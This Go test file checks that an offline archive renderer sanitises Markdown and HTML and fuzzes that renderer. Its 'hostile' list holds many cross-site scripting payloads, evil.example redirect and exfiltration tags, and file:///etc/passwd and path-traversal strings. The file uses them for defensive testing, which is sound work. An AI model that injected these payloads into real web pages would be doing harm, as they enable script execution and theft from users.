package offline_test

import (
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/backstay/backstay/internal/forge/neutral"
	"github.com/backstay/backstay/internal/forge/offline"
)

func TestTextIsRendered(t *testing.T) {
	const out = ` rel="noreferrer noopener nofollow" class="out">`
	for _, c := range [][2]string{
		{"**a** `b`", "<p><strong>a</strong> <code>b</code></p>"},
		{"a\nb", "<p>a<br>\nb</p>"},
		{"- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>"},
		{"3. a", `<ol start="3">` + "\n<li>a</li>\n</ol>"},
		{"|a|\n|-:|\n|b|", "<table>\n<thead>\n<tr>\n<th align=\"right\">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"right\">b</td>\n</tr>\n</tbody>\n</table>"},
		{"```go\n#1 <b>\n```", "<pre><code>#1 &lt;b&gt;\n</code></pre>"},
		{"#1, (!2) #2 #3 a#1", `<p><a href="../issues/1.html">#1</a>, (<a href="../pulls/2.html">!2</a>) <a href="../pulls/2.html">#2</a> #3 a#1</p>`},
		{"`#1` [#1](http://a)", `<p><code>#1</code> <a href="http://a"` + out + `#1</a></p>`},
		{"see https://a.org/b.", `<p>see <a href="https://a.org/b"` + out + `https://a.org/b</a>.</p>`},
		{"https://github.com/acme/api/pull/2", `<p><a href="../pulls/2.html">https://github.com/acme/api/pull/2</a></p>`},
		{"https://github.com/acme/api/issues/9", `<p><a href="https://github.com/acme/api/issues/9"` + out + `https://github.com/acme/api/issues/9</a></p>`},
		{"[doc](docs/a.md)", `<p><a href="https://github.com/acme/api/docs/a.md"` + out + `doc</a></p>`},
		{"![a](https://github.com/user-attachments/assets/u1)", `<p><img src="../files/0123/u1.png" alt="a" loading="lazy"></p>`},
		{`<img width="9" src="https://github.com/user-attachments/assets/u1">`, `<img src="../files/0123/u1.png" alt="" loading="lazy">`},
		{"![a](https://github.com/user-attachments/assets/u2)", `<p><a href="../files/0123/u2.bin">[a]</a></p>`},
		{"![a](/uploads/0a/b.png)", `<p><img src="../files/0456/b.png" alt="a" loading="lazy"></p>`},
		{"![a](https://evil.example/pixel.png)", `<p><a href="https://evil.example/pixel.png"` + out + `[a]</a></p>`},
		{"[![b](https://evil.example/b.svg)](https://a.org)", `<p><a href="https://a.org"` + out + `[b]</a></p>`},
		{"<details><summary>More</summary>\n\n**x**\n\n</details>", "<details><summary>More</summary>\n<p><strong>x</strong></p>\n</details>"},
		{"a <!-- note --> b", "<p>a  b</p>"},
		{"<div align=\"center\" onclick=\"x()\">a</div>", "a"},
		{"[a](mailto:a@b.org)", `<p><a href="mailto:a@b.org"` + out + `a</a></p>`},
		{"\u0645\u0631\u062d\u0628\u0627 \u200f!", "<p>\u0645\u0631\u062d\u0628\u0627 \u200f!</p>"},
		{"a \u202egnp.exe", "<p>a [U+202E]gnp.exe</p>"},
		{"a\x00\x1b[31m\u009b\u202db", "<p>a[31m[U+202D]b</p>"},
		{"a \xff b", "<p>a \ufffd b</p>"},
		{"<g-emoji class=\"g-emoji\">\U0001f600</g-emoji>", "<p>\U0001f600</p>"},
		{"<a name=\"x\">y</a>", "<p>y</p>"},
		{"a<kbd onmouseover=x>b</kbd>", "<p>a<kbd>b</kbd></p>"},
	} {
		text, want := c[0], c[1]
		if got := strings.TrimSpace(offline.Render(text)); got != want {
			t.Errorf("%q:\n got %s\nwant %s", text, got, want)
		}
	}
}

// hostile are texts that would do something, were they not seen to.
var hostile = []string{
	"<script>alert(1)</script>", "<SCRIPT src=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](&#106;avascript:alert(1))", "[a]( javascript:alert(1))",
	"[a](\x01javascript:alert(1))", "[a](vbscript:x)", "[a](data:text/html,<script>alert(1)</script>)", "[a](file:///etc/passwd)", "<javascript:alert(1)>",
	"![a](javascript:alert(1))", "![a](file:///etc/passwd)", "![a](data:image/svg+xml,<svg onload=alert(1)>)", "![a](//evil.example/x.png)",
	"[a](//evil.example)", "[a](../../../../etc/passwd)", "[a](https://github.com/acme/api/issues/1\"onclick=alert(1))", "![\"onerror=alert(1) x=\"](x)",
	"<iframe src=https://evil.example>", "<object data=x>", "<embed src=x>", "<form action=https://evil.example><input type=submit>", "<base href=https://evil.example>",
	"<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=0;url=https://evil.example>", "<style>*{background:url(https://evil.example)}</style>",
	"<p style=\"background:url(https://evil.example)\">x", "<a href=\"javascript:alert(1)\">x</a>", "<a href=x target=_blank ping=https://evil.example>x</a>",
	"<video src=https://evil.example/x.mp4 autoplay>", "<audio src=x>", "<picture><source srcset=https://evil.example/x></picture>", "<template><script>alert(1)</script></template>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><script>alert(1)</script></textarea>", "<title><script>alert(1)</script></title>",
	"<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "</div></body></html><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
	"<![CDATA[<script>alert(1)</script>]]>", "<?php x ?>", "<select><option><script>alert(1)</script>", "<table><script>alert(1)</script></table>", "<frameset onload=x>",
	"`</code><script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```", "~~~\"><script>\nx\n~~~", "<button formaction=javascript:alert(1)>x",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<isindex action=x>", "#1\"><script>alert(1)</script>", "\x00<scr\x00ipt>alert(1)</script>",
	"<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<image src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x", "<a href='https://a' id=form name=status>x</a>",
}

func TestHostileTextsDoNothing(t *testing.T) {
	for _, text := range hostile {
		checkHarmless(t, text, offline.Render(text))
	}
	// They stand in titles, names and everything else, too.
	h := small()
	for i, text := range hostile {
		n := int64(100 + i)
		who := neutral.User{Login: text, Name: text, URL: text}
		h.items = append(h.items, &neutral.Item{
			Origin: neutral.Origin{Author: who, URL: text}, Number: n, Title: text, Body: text, Labels: []string{text}, Milestone: text, Reason: text, Closed: true,
			Assignees: []neutral.User{who}, Reactions: []neutral.Reaction{{Content: text, User: who}}, Events: []*neutral.Event{{Kind: text, Text: text, Actor: who}},
			Links: []neutral.Link{{Kind: text, To: text}}, LockReason: text, Locked: true,
			Pull: &neutral.Pull{Base: text, Head: text, HeadOID: text, Reviews: []*neutral.Review{{State: text, Body: text, OID: text, Comments: []*neutral.Comment{{
				Body: text, Code: &neutral.Code{Path: text, Hunk: text, OID: text, Line: 1},
			}}}}},
		})
		h.overview.Labels = append(h.overview.Labels, &neutral.Label{Name: text, Color: text, Description: text})
		h.overview.Milestones = append(h.overview.Milestones, &neutral.Milestone{Title: text, Description: text})
		h.overview.Hooks = append(h.overview.Hooks, &neutral.Hook{URL: text, Events: []string{text}})
		asset := h.file(text+"/asset", text, text, text)
		h.overview.Releases = append(h.overview.Releases, &neutral.Release{
			Tag: text, Name: text, Body: text, Origin: neutral.Origin{URL: text, Author: who}, Assets: []*neutral.Asset{{File: *asset}},
		})
	}
	h.overview.Settings = neutral.Settings{Description: strings.Join(hostile, " "), Homepage: "javascript:alert(1)", Topics: hostile}
	pages, _, _ := site(t, h)
	checkPages(t, pages)
	if strings.Contains(pages["search/00001.js"], "<") {
		t.Error("the search's index has a <")
	}
}

var safeAttribute = regexp.MustCompile(`^(href|src|alt|rel|class|loading|align|start)$`)

// checkHarmless fails where rendered text, as a browser reads it, has anything that is not known to do nothing.
func checkHarmless(t *testing.T, text, rendered string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(rendered), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatalf("%q became %q: %v", text, rendered, err)
	}
	for _, n := range nodes {
		checkNode(t, text, n)
		for inner := range n.Descendants() {
			checkNode(t, text, inner)
		}
	}
	closing := regexp.MustCompile(`</(div|body|html)>`)
	if closing.MatchString(rendered) {
		t.Errorf("%q breaks out of its page: %q", text, rendered)
	}
}

const safeElements = " a img h1 h2 h3 h4 h5 h6 p br hr ul ol li pre code blockquote em strong b i u s del ins sub sup kbd samp var tt q dl dt dd table thead " +
	"tbody tfoot tr th td details summary abbr cite mark small "

func checkNode(t *testing.T, text string, n *html.Node) {
	t.Helper()
	if n.Type == html.CommentNode || n.Type == html.ElementNode && !strings.Contains(safeElements, " "+n.Data+" ") {
		t.Errorf("%q has a node %s", text, n.Data)
	}
	for _, a := range n.Attr {
		switch {
		case !safeAttribute.MatchString(a.Key):
			t.Errorf("%q has an attribute %s=%q", text, a.Key, a.Val)
		case a.Key == "src" && !strings.HasPrefix(a.Val, "../files/"):
			t.Errorf("%q loads %q", text, a.Val)
		case a.Key == "href" && !regexp.MustCompile(`^(https?://|mailto:|\.\./(files|issues|pulls|discussions)/)`).MatchString(a.Val):
			t.Errorf("%q leads to %q", text, a.Val)
		}
	}
}

func TestHugeTextsAreHarmless(t *testing.T) {
	const n = 32 << 10
	for name, text := range map[string]string{
		"quotes": strings.Repeat(">", n), "brackets": strings.Repeat("[", n), "links": strings.Repeat("[a](", n/4), "images": strings.Repeat("![", n/2),
		"stars": strings.Repeat("*a **b ", n/7), "lists": strings.Repeat("- ", n/2), "elements": strings.Repeat("<b>", n/3), "ticks": strings.Repeat("`a``", n/4),
		"cells": "|" + strings.Repeat("a|", n/16) + "\n|" + strings.Repeat("-|", n/16) + strings.Repeat("\n|", n/4), "entities": strings.Repeat("&a", n/2),
		"addresses": strings.Repeat("https://a.", n/10), "mails": strings.Repeat("a@", n/2), "references": strings.Repeat("[a]: b\n", n/7),
		"foster": "<table>" + strings.Repeat("<b>x", n/5), "forms": strings.Repeat("<a><p>", n/6), "numbers": strings.Repeat("#1 ", n/3), "under": strings.Repeat("a_", n/2),
		"long": strings.Repeat("a ", 1<<20),
	} {
		checkHarmless(t, name, offline.Render(text))
	}
}

func TestFilesHaveHarmlessNames(t *testing.T) {
	for _, test := range [][3]string{
		{"shot.PNG", "", "shot.PNG"},
		{"u1", "image/png", "u1.png"},
		{"u1", "image/jpeg; q=1", "u1.jpg"},
		{"a.html", "image/png", "a.html.png"},
		{"a.svg", "image/svg+xml", "a.svg.bin"},
		{"../../etc/passwd", "", "_.._etc_passwd.bin"},
		{"..", "", ".bin"},
		{"", "", ".bin"},
		{".htaccess", "", "htaccess.bin"},
		{"a b\x00/c\u202egnp.exe", "", "a_b_c_gnp.exe"},
		{"a.xhtml", "text/html", "a.xhtml.bin"},
		{"x.js", "", "x.js.bin"},
		{"-rf.txt", "", "rf.txt"},
		{strings.Repeat("é", 400) + ".zip", "", "_.zip"},
	} {
		got := offline.FileName(test[0], test[1])
		if got != test[2] && test[2] != ".bin" || got == "." || got == ".." || filepath.Base(got) != got {
			t.Errorf("%q became %q, want %q", test[0], got, test[2])
		}
	}
}

// FuzzText finds no text that does something in a page.
func FuzzText(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Add("> by **a**\n\n| a |\n|---|\n| #1 |\n\n[^1]: x\n<details>\n\n- [x] ![a](https://github.com/user-attachments/assets/u1)")
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4096 {
			return
		}
		began := time.Now()
		checkHarmless(t, text, offline.Render(text))
		if took := time.Since(began); took > 2*time.Second {
			t.Errorf("%q took %v", text, took)
		}
	})
}

// FuzzClean finds no text that turns what stands beside it, or that is changed twice.
func FuzzClean(f *testing.F) {
	f.Add("a\u202eb\x00\xff\u2066")
	f.Fuzz(func(t *testing.T, text string) {
		cleaned := offline.Clean(text)
		if strings.ContainsAny(cleaned, "\x00\x1b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") || offline.Clean(cleaned) != cleaned {
			t.Errorf("%q became %q", text, cleaned)
		}
	})
}
